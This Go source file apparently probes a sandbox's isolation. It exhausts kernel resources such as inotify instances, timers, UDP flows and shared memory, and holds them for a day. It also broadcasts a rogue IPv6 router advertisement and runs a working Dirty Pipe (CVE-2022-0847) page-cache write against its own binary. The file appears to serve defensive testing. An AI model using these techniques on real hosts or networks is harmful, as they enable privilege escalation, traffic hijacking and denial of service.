package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"os"
	"runtime"
	"strconv"
	"syscall"
	"time"
	"unsafe"
)

// exhaustWord runs what tests of exhaustion and of neighbours ask for, and
// does not return if it was one of these words.
func exhaustWord(args []string) {
	var err error
	switch {
	case len(args) > 2 && args[1] == "use-up":
		err = useUp(args[2:])
	case len(args) == 3 && args[1] == "advertise":
		err = advertise(args[2])
	default:
		return
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "probe:", err)
		os.Exit(2)
	}
	os.Exit(0)
}

// useUp takes of something as much as there is, says how much that was, and
// keeps it if the last word is "keep".
func useUp(args []string) error {
	const enough = 1 << 20
	n := 0
	switch args[0] {
	case "inotify": // instances
		for n < enough {
			if _, err := syscall.InotifyInit1(0); err != nil {
				break
			}
			n++
		}
	case "timers": // each is a queued signal
		for n < enough {
			var id int32
			if _, _, e := syscall.RawSyscall(syscall.SYS_TIMER_CREATE, 0, 0, uintptr(unsafe.Pointer(&id))); e != 0 {
				break
			}
			n++
		}
	case "flows": // datagrams, each from a port of its own
		for ; n < 3000; n++ {
			c, err := net.Dial("udp", args[1])
			if err != nil {
				break
			}
			_, _ = c.Write([]byte("x"))
			defer c.Close()
		}
	case "shm": // MiB of System V shared memory
		most, err := strconv.Atoi(args[1])
		if err != nil {
			return err
		}
		if err := sharedMemory(most << 20); err != nil {
			return err
		}
		n = most
	default:
		return errors.New("nobody knows " + args[0])
	}
	fmt.Println(n)
	if args[len(args)-1] == "keep" {
		time.Sleep(24 * time.Hour)
	}
	return nil
}

// sharedMemory makes a segment and writes to all its pages.
func sharedMemory(size int) error {
	get, at := uintptr(29), uintptr(30) // linux/arch/x86/entry/syscalls
	if runtime.GOARCH == "386" {
		get, at = 395, 397
	}
	const private, create = 0, 0o1000
	id, _, e := syscall.RawSyscall(get, private, uintptr(size), create|0o600)
	if e != 0 {
		return fmt.Errorf("shmget: %w", e)
	}
	p, _, e := syscall.RawSyscall(at, id, 0, 0)
	if e != 0 {
		return fmt.Errorf("shmat: %w", e)
	}
	b := unsafe.Slice((*byte)(*(*unsafe.Pointer)(unsafe.Pointer(&p))), size)
	for i := 0; i < size; i += os.Getpagesize() {
		b[i] = 1
	}
	return nil
}

// advertise says to all on an interface that this is a router, with a prefix
// of its own (RFC 4861). It takes a raw socket.
func advertise(iface string) error {
	i, err := net.InterfaceByName(iface)
	if err != nil {
		return err
	}
	c, err := net.ListenPacket("ip6:ipv6-icmp", "::")
	if err != nil {
		return err
	}
	raw, err := c.(*net.IPConn).SyscallConn()
	if err != nil {
		return err
	}
	var serr error
	if err := raw.Control(func(fd uintptr) {
		serr = errors.Join(
			syscall.SetsockoptInt(int(fd), syscall.IPPROTO_IPV6, syscall.IPV6_MULTICAST_HOPS, 255),
			syscall.SetsockoptInt(int(fd), syscall.IPPROTO_IPV6, syscall.IPV6_MULTICAST_IF, i.Index),
			syscall.SetsockoptInt(int(fd), syscall.IPPROTO_IPV6, syscall.IPV6_MULTICAST_LOOP, 0),
		)
	}); err != nil || serr != nil {
		return errors.Join(err, serr)
	}
	m := []byte{134, 0, 0, 0, 64, 0, 0x70, 0x08, 0, 0, 0, 0, 0, 0, 0, 0} // the kernel fills in the checksum
	prefix := []byte{3, 4, 64, 0xc0}
	prefix = binary.BigEndian.AppendUint32(prefix, 3600)
	prefix = binary.BigEndian.AppendUint32(prefix, 3600)
	prefix = append(prefix, 0, 0, 0, 0)
	prefix = append(prefix, net.ParseIP("fd66:bad::")...)
	for range 3 {
		if _, err := c.WriteTo(append(m, prefix...), &net.IPAddr{IP: net.ParseIP("ff02::1"), Zone: iface}); err != nil {
			return err
		}
	}
	return nil
}

func exhaustAttempts() []attempt {
	return []attempt{{"page-cache", "system calls", "write to the cached pages of a read-only file by a pipe", dirtyPipe}}
}

// dirtyPipe is CVE-2022-0847 on a byte of this program's own file that means
// nothing, in the padding of its ELF header.
func dirtyPipe() outcome {
	const at = 9
	f, err := os.Open("/proc/self/exe")
	if err != nil {
		return outcome{verdict: absent, note: err.Error()}
	}
	defer f.Close()
	var before, after [1]byte
	if _, err := f.ReadAt(before[:], at); err != nil {
		return outcome{verdict: absent, note: err.Error()}
	}
	var p [2]int
	if err := syscall.Pipe(p[:]); err != nil {
		return byErrno(err)
	}
	defer syscall.Close(p[0])
	defer syscall.Close(p[1])
	// Each buffer of the pipe once, so that it may be appended to.
	full := make([]byte, 65536)
	if _, err := syscall.Write(p[1], full); err != nil {
		return byErrno(err)
	}
	for n := 0; n < len(full); {
		m, err := syscall.Read(p[0], full)
		if err != nil {
			return byErrno(err)
		}
		n += m
	}
	off := int64(at - 1)
	if _, err := syscall.Splice(int(f.Fd()), &off, p[1], nil, 1, 0); err != nil {
		return byErrno(err)
	}
	if _, err := syscall.Write(p[1], []byte{before[0] + 1}); err != nil {
		return byErrno(err)
	}
	if _, err := f.ReadAt(after[:], at); err != nil {
		return outcome{verdict: open, note: err.Error()}
	}
	if before != after {
		return outcome{verdict: open, note: "the page in memory has changed"}
	}
	return outcome{verdict: blocked, note: "the page is as it was"}
}
